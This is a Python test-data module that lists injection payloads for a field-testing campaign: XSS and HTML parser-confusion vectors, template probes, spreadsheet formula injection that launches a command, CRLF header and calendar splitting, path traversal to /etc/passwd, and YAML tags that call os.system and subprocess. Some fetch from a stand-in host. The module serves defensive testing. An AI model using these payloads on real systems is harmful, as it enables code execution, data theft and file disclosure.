"""What the campaign ``injection`` puts into fields: code for browsers, templates, spreadsheets, calendars and YAML.

``MARK`` becomes a word that is the only one of its kind, so that what became of each field can be found again. Code
that runs sets ``window.__kb_ran``; code that fetches asks the host ``OUTSIDE``.
"""

from __future__ import annotations

OUTSIDE = "kb-outside.example.org"
_RUN = "window.__kb_ran='MARK'"
_URL = f"https://{OUTSIDE}/MARK"
_TAB, _NUL, _RTL, _PDF, _LS, _ZERO, _BOM = "\t", "\0", "\u202e", "\u202c", "\u2028", "\u200b", "\ufeff"

PAYLOADS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_URL}></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}</script >",
    f"<script type=module>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea></select></option><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script>{_RUN}",
    # attributes
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"` onclick={_RUN} `",
    f'" autofocus onfocus={_RUN} tabindex=0 "MARK',
    'AT&T said "MARK" & it\'s <5 > 3 &amp; &copy; &quot;',
    # elements with handlers
    f"<img src=x onerror={_RUN}>",
    f"<IMG SRC=x ONERROR={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}><a><text>MARK</text></a></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>MARK</a>",
    f"<a href='jav&#x09;ascript:{_RUN}'>MARK</a>",
    # elements that fetch, frame or lead away
    f"<img src={_URL}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<iframe srcdoc=\"<script>parent.__kb_ran='MARK'</script>\">",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<base href=https://{OUTSIDE}/>MARK",
    f'<meta http-equiv=refresh content="0;url={_URL}">',
    f"<form action={_URL}><button>MARK</button></form>",
    f"<link rel=stylesheet href={_URL}>",
    f"<style>@import '{_URL}';</style>",
    f'<div style="background:url({_URL})">MARK</div>',
    "<p style='position:fixed;inset:0'>MARK",
    # texts that two readers of HTML read otherwise
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?MARK <img src=x onerror={_RUN}>?>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'>",
    # entities and other spellings
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    # Markdown
    f"[MARK](javascript:{_RUN})",
    f"[MARK](<javascript:{_RUN}>)",
    "[MARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![MARK]({_URL})",
    f"<{_URL}>",
    f'MARK {{: onclick="{_RUN}" }}',
    f'MARK {{ #x .y onclick="{_RUN}" style="color:red" }}',
    "`MARK` *MARK* __MARK__ ~~MARK~~ ^^MARK^^ ==MARK==",
    "\\`MARK\\` \\\\ \\[MARK\\] \\<b>",
    "[TOC] MARK [^1] [MARK][1] ![MARK][1] | MARK | --- |",
    '--8<-- "/etc/passwd" MARK',
    '{% include "/etc/passwd" %} MARK --8<-- ../../mkdocs.yml',
    "klzzwxh:0000 wzxhzdk:0 MARK \u0002klzzwxh:0\u0003",
    # templates
    "{{ 7*7 }} MARK {{ config }} {{ ''.__class__.__mro__ }}",
    "{% raw %}MARK{% endraw %}{% for x in range(9) %}MARK{% endfor %}",
    "{# MARK #}",
    f"${{{_RUN}}} `${{MARK}}` #{{MARK}} <%= MARK %> $(touch MARK)",
    # spreadsheets
    f'=HYPERLINK("{_URL}","MARK")',
    "=cmd|' /C calc'!A0 MARK",
    "@SUM(1+1)*MARK",
    "+1-MARK",
    "-1+MARK",
    f"{_TAB}=MARK+1",
    'MARK","=1+1","x\n=2+2',
    # lines of headers and calendars
    "MARK\r\nX-Injected: MARK",
    "MARK\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM",
    "MARK\\nEND:VEVENT;ATTACH=file:///etc/passwd,MARK",
    "MARK\n\n# MARK\n\n<script>window.__kb_ran='MARK'</script>\n\n---\ntitle: MARK\n---",
    # letters that are not seen
    f"MARK{_NUL}<script>{_RUN}</script>",
    f"{_RTL}MARK{_PDF}",
    f"MARK{_LS}<script>{_RUN}</script>",
    f"<scr{_ZERO}ipt>{_RUN}</script>{_BOM}",
    "MARK\x1b[31m\x07",
    # addresses and paths
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    "vbscript:MARK",
    f"//{OUTSIDE}/MARK",
    f'https://example.org/"onmouseover="{_RUN}"MARK',
    "https://example.org/MARK'><script>",
    "../../../../etc/passwd?MARK",
    "file:///etc/passwd#MARK",
    "kb:x//etc/MARK",
    "ref:MARK",
    # style sheets
    f"expression({_RUN});width:expression({_RUN})",
    f"url(javascript:{_RUN})",
    f"red;background:url({_URL})",
    f'";}}*{{background:url({_URL})}}/*MARK',
    # YAML as text
    "!ENV [MARK, HOME]",
    "!!python/object/apply:os.system ['touch MARK']",
    "&MARK *MARK",
    "<<: *MARK",
    # size
    "MARK " + "lorem " * 500,
    "MARK" + "x" * 3_000,
    "MARK " + "<b>" * 500,
)
"""Each is a whole value, or is put behind what a field says."""

BARE: tuple[str, ...] = (
    "!ENV [MARK, HOME]",
    "!ENV HOME",
    "!!python/object/apply:os.system ['touch kb-was-run']",
    "!!python/name:os.system",
    "!!python/object/new:subprocess.Popen [[touch, kb-was-run]]",
    "&a [*a, *a]",
    "*MARK",
    "!include /etc/passwd",
    "!!binary PHNjcmlwdD4=",
    "{<<: {MARK: MARK}}",
    "[[[[[[[[MARK]]]]]]]]",
    "{MARK: {MARK: MARK}}",
)
"""Values that are YAML of their own: they are written without quotes."""
